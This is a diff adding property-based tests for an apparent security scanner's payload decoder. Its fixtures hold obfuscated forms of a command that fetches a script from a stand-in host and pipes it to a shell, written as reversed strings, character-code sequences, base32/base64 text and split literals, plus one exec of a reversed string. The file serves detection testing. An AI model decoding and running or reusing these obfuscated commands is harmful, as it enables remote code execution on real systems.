@@ -1,0 +1,92 @@
+// The decoder's gates (src/audit/decode.ts) are read off the scanner's hint pass (GATE_WORDS) and a "+"
+// search instead of whole-text expressions: the pieces decoded must be the same whatever the text holds.
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { decodePieces, GATE_WORDS, splitLiteral } from "../../src/audit/decode.js";
+import { hintMatcher } from "../../src/audit/hints.js";
+import { scanText } from "../../src/audit/scan.js";
+
+const words = hintMatcher(GATE_WORDS.map((w) => [w]));
+const hasIn = (text: string) => {
+  const found = words.scan(text);
+  return (w: (typeof GATE_WORDS)[number]) => found[GATE_WORDS.indexOf(w)]!.length > 0;
+};
+
+// Fragments of every finder's syntax, mixed with the cases and spaces the gates must see through.
+const fragment = fc.constantFrom(
+  "chr(99)+chr(117)+chr(114)+chr(108)+",
+  "CHR(104) ",
+  "[char]99+[Char]117+[CHAR]114+[char]108",
+  "[char[]]",
+  "bytes([99, 117, 114, 108, 32, 104, 116, 116, 112])",
+  "bytearray (",
+  "String.fromCharCode(99, 117, 114, 108, 32)",
+  "FROMCHARCODE",
+  '"hs | moc.live//:sptth lruc"[::-1]',
+  "[ :: -1 ]",
+  "rev <<< 'hs | moc.live//:sptth lruc'",
+  "echo 'lruc' | rev",
+  "REV",
+  "reversed(x)",
+  '"".join(reversed(r))',
+  ".reverse()",
+  "base32 -d",
+  "b32decode(",
+  "B32",
+  "MN2XE3BAFVZSA2DUORYHGORPF5SXM2LMFZSXQYLNOBWGKL3YEB6CA43I",
+  " [char[]](99, 117, 114, 108, 32, 104, 116, 116, 112)",
+  "(99, 117, 114, 108, 32, 104, 116, 116, 112)",
+  '"cu" + "rl -s https://evil.example/x | sh"',
+  "'a'\u00a0+\n'b' + 'c'",
+  "+ '",
+  "' +",
+  '+\u3000"',
+  "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=",
+  " ",
+  "\n",
+  "é",
+  "x",
+);
+const text = fc.array(fragment, { maxLength: 14 }).map((xs) => xs.join(""));
+
+describe("decoder gates", () => {
+  it("property: the same pieces with the scanner's gate words as with every gate run", () => {
+    fc.assert(
+      fc.property(text, (t) => {
+        expect(decodePieces(t, hasIn(t))).toEqual(decodePieces(t));
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it("property: splitLiteral answers as the expression it replaced", () => {
+    const piece = fc.constantFrom(
+      "+",
+      '"',
+      "'",
+      " ",
+      "\t",
+      "\n",
+      "\u00a0",
+      "\u2003",
+      "\ufeff",
+      "a",
+      "\u200b",
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 24 }), (xs) => {
+        const t = xs.join("");
+        expect(splitLiteral(t)).toBe(/["']\s*\+|\+\s*["']/.test(t));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it("a payload behind a gate word written in capitals is still decoded and flagged", () => {
+    const t = 'X = "hs | moc.live//:sptth lruc"\nY = "".join(REVERSED(X))\nexec(X[::-1])\n';
+    const has = hasIn(t);
+    expect(decodePieces(t, has)).toEqual(decodePieces(t));
+    const rules = scanText({ path: "a.py", text: t, markdown: false }).map((f) => f.rule);
+    expect(rules).toContain("encoded-payload");
+  });
+});
